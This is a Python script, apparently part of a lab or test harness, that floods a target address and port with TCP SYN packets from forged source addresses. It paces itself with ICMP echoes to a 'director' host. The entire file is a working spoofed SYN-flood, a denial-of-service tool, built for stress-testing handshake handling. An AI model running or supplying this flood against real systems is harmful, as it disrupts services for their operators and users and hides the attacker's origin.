#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Sends SYNs from forged addresses until it is killed: synflood.py ADDRESS PORT NETWORK PACER FILE.

NETWORK is two octets such as 10.9. The number of SYNs is written to FILE. PACER is an address of the
director. After each 20 SYNs, the flood waits for its echo reply, which follows the SYNs on the same
way. So the queues between client and director never overflow: handshakes lose no packets, however
slow the kernel is, and only the director decides about them.
"""

import itertools
import pathlib
import socket
import struct
import sys
import time

from wire import checksum


def echo(sock, address):
    """Waits until the address has answered an echo request, for a second at most."""
    request = struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0)
    sock.sendto(request, (address, 0))
    try:
        while sock.recv(1500)[20] != 0:
            pass
    except TimeoutError:
        pass


def main():
    """Sends SYNs, each from another address and port."""
    address, port, network, pacer = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    count = pathlib.Path(sys.argv[5])
    echoes = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    echoes.settimeout(1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(address)
    first, second = (int(octet) for octet in network.split("."))
    # The checksum of a segment whose source and sequence number are 0. Building a segment must be
    # cheap, since interpreters are slow under emulation.
    empty = struct.pack("!HHIIBBHHH", 0, port, 0, 0, 5 << 4, 2, 8192, 0, 0)
    fixed = 0xFFFF ^ checksum("0.0.0.0", address, socket.IPPROTO_TCP, empty)
    packet = struct.Struct("!BBHHHBBH4B4sHHIIBBHHH")
    for n in itertools.count():
        third, fourth = n // 250 % 250, n % 250 + 1
        source_port, sequence = 1024 + n // 62500 % 60000, n & 0x7FFFFFFF
        total = fixed + (first << 8 | second) + (third << 8 | fourth) + source_port + (sequence >> 16) + (sequence & 0xFFFF)
        while total > 0xFFFF:
            total = (total & 0xFFFF) + (total >> 16)
        sock.sendto(packet.pack(0x45, 0, 40, n & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0, first, second, third, fourth, target,
                                source_port, port, sequence, 0, 5 << 4, 2, 8192, 0xFFFF ^ total, 0), (address, 0))
        if n % 20 == 19:
            count.write_text(f"{n + 1}\n", encoding="ascii")
            echo(echoes, pacer)
            # Other processes need processor time, too.
            time.sleep(0.002)


if __name__ == "__main__":
    main()
